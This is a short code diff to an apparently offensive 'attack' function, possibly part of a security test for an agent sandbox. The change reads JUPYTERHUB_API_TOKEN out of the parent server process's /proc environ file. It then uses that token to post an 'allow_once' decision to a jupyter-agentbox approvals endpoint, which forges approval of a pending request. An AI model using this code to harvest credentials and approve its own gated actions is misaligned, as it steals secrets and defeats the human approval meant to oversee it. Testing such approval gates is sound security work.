@@ -33,7 +33,10 @@ def attack(facts: dict[str, Any]) -> Any:
     import os
     import urllib.request
 
-    token, url = os.environ["JUPYTERHUB_API_TOKEN"], facts["url"]
+    # it is in no kernel's environment; a plain kernel finds it in that of the server, its parent
+    with open(f"/proc/{os.getppid()}/environ", "rb") as environment:
+        given = dict(entry.split("=", 1) for entry in environment.read().decode().split("\0") if "=" in entry)
+    token, url = given["JUPYTERHUB_API_TOKEN"], facts["url"]
     decision = url + "jupyter-agentbox/approvals/" + facts["id"] + "/decision"
     body = json.dumps({"decision": "allow_once", "digest": facts["digest"]}).encode()
     with_token = {"Authorization": "token " + token}
